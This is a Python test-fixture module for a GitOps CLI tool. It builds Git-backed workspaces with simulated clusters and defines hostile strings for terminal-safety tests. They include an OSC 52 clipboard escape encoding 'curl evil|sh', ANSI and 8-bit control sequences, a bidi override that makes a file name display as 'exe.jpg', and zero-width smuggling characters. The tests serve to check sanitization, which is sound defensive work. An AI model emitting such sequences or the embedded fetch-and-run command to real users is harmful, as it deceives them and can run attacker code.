"""Build small real workspaces for tests: a bare Git repo with files, sim clusters, Applications."""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import git

from console.cluster.sim import SimCluster
from console.engine import yamlsafe
from console.engine.appstore import AppStore
from console.engine.workspace import Workspace, load


def commit_files(work: git.Repo, root: Path, files: dict[str, str | None], message: str) -> str:
    """Write (or delete, for None) files in the working clone, commit, push to origin main."""
    for rel, text in files.items():
        p = root / rel
        if text is None:
            p.unlink()
            continue
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
    work.git.add("--all")
    sha = work.index.commit(message).hexsha
    work.git.push("origin", "main")
    return sha


def make_workspace(
    root: Path,
    files: dict[str, str],
    *,
    settings: dict[str, Any] | None = None,
    clusters: tuple[str, ...] = ("dev",),
) -> tuple[Workspace, str, git.Repo]:
    """A workspace with control cluster `in-cluster` plus `clusters`, and a repo holding `files`."""
    doc = {
        "apiVersion": "trueup.dev/v1alpha1",
        "kind": "Workspace",
        "controlCluster": "in-cluster",
        "clusters": [{"name": "in-cluster", "server": "https://kubernetes.default.svc", "type": "sim"}]
        + [{"name": c, "server": f"https://{c}.k8s.sim.invalid", "type": "sim"} for c in clusters],
        "repositories": {"allowFileURLs": True},
        "settings": settings or {},
    }
    (root / "trueup.yaml").write_text(yamlsafe.dump(doc))
    bare = root / "repo.git"
    git.Repo.init(bare, bare=True, initial_branch="main")
    work = git.Repo.init(root / "work", initial_branch="main")
    work.create_remote("origin", bare.as_uri())
    commit_files(work, root / "work", files, "initial")
    ws = load(root)
    for c in ws.clusters.values():
        p = ws.sim_path(c.name)
        p.parent.mkdir(parents=True, exist_ok=True)
        SimCluster.create_db(p, c.name, c.server)
    AppStore(ws.control()).install()
    return ws, bare.as_uri(), work


def application(
    name: str,
    repo: str,
    path: str,
    *,
    cluster: str = "dev",
    namespace: str = "default",
    project: str = "default",
    **spec: Any,
) -> dict[str, Any]:
    base: dict[str, Any] = {
        "project": project,
        "source": {"repoURL": repo, "path": path, "targetRevision": "main"},
        "destination": {"name": cluster, "namespace": namespace},
    }
    base.update(spec)
    return {
        "apiVersion": "trueup.dev/v1alpha1",
        "kind": "Application",
        "metadata": {"name": name, "namespace": "trueup"},
        "spec": base,
    }


def project(name: str, **spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": "trueup.dev/v1alpha1",
        "kind": "AppProject",
        "metadata": {"name": name, "namespace": "trueup"},
        "spec": spec,
    }


# ---------------------------------------------------------------- bad input through the CLI


def assert_one_line_error(
    result: subprocess.CompletedProcess[str], code: int, *, usage: str | None = None
) -> str:
    """The bad-input contract (DESIGN.md §4/§5): exit `code`, no traceback, no raw control
    character, and one error line on stderr. argparse's usage errors may lead with their `usage:`
    block, which must then be the usage of `usage` (e.g. "trueup app list"), the subcommand that
    failed. Returns the error line."""
    from widgets.safe_text import is_unsafe

    err = result.stderr
    assert result.returncode == code, (result.returncode, err)
    assert "Traceback" not in err and "Traceback" not in result.stdout, err
    assert not any(is_unsafe(ch, keep_newlines=True) for ch in err), err
    lines = err.splitlines()
    if usage is not None:
        assert lines and lines[0].startswith(f"usage: {usage} "), err
    if lines and lines[0].startswith("usage:"):
        i = 1
        while i < len(lines) and lines[i].startswith(" "):
            i += 1  # argparse wraps a long usage onto indented lines
        lines = lines[i:]
    assert len(lines) == 1, err
    assert lines[0].startswith("trueup"), err  # `trueup: ...` or `trueup app list: error: ...`
    return lines[0]


# ---------------------------------------------------------------- hostile strings (terminal safety)

OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"  # OSC 52: "curl evil|sh" into the clipboard, BEL-terminated
CSI = "\x1b[2J\x1b[31m"  # clear the screen, red
C1 = "\x9b31m\x85"  # 8-bit CSI, NEL
BIDI = "\u202egpj.exe\u202c\u2066x\u2069"  # right-to-left override: shows as "exe.jpg"
ZW = "\u200b\ufeff\U000e0041"  # zero-width space, BOM, a tag character ("ASCII smuggling")
MARKUP = "[bold]x[/] weird[/x]name"  # Rich markup: must show literally, never style or crash
ROLE_NAME = f"reader{OSC52}{CSI}{C1}{BIDI}"  # RBAC names are path segments: the API server accepts it
NOTE = f"note {OSC52} {CSI}red\x1b[0m {C1} {BIDI} {ZW} {MARKUP} bell\x07 del\x7f cr\rlf"
BAD_FILE = f"bad\x1b[31m{BIDI}\tname.yaml"
SUBJECT = f"deploy {OSC52} {BIDI}"

HOSTILE_LUA = """hs = {}
hs.status = "Degraded"
hs.message = obj.metadata.annotations["example.com/note"]
return hs
"""


def yaml_dq(value: str) -> str:
    """A YAML double-quoted scalar with every non-printable-ASCII character escaped."""
    out = []
    for ch in value:
        code = ord(ch)
        if ch in '"\\':
            out.append("\\" + ch)
        elif 0x20 <= code < 0x7F:
            out.append(ch)
        elif code < 0x100:
            out.append(f"\\x{code:02x}")
        elif code < 0x10000:
            out.append(f"\\u{code:04x}")
        else:
            out.append(f"\\U{code:08x}")
    return '"' + "".join(out) + '"'


HOSTILE_FILES = {
    "hostile/role.yaml": f"""apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: {yaml_dq(ROLE_NAME)}
rules:
  - apiGroups: [""]
    resources: [configmaps]
    verbs: [get]
""",
    "hostile/cm.yaml": f"""apiVersion: v1
kind: ConfigMap
metadata:
  name: banner
  annotations:
    example.com/note: {yaml_dq(NOTE)}
data:
  motd: {yaml_dq(NOTE)}
""",
    f"broken/{BAD_FILE}": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x\n  data: [\n",
}


def make_hostile_workspace(root: Path) -> Path:
    """A workspace whose repository carries control characters in a resource name, annotations,
    a Lua health message, a file name and a commit subject: apps `hostile` and `broken`."""
    ws, repo, work = make_workspace(
        root,
        {"README.md": "fleet\n"},
        settings={"resourceCustomizations": {"ConfigMap": {"health.lua": HOSTILE_LUA}}},
    )
    commit_files(work, root / "work", HOSTILE_FILES, SUBJECT)
    control = ws.control()
    control.create(application("hostile", repo, "hostile"), field_manager="test")
    control.create(application("broken", repo, "broken"), field_manager="test")
    return root
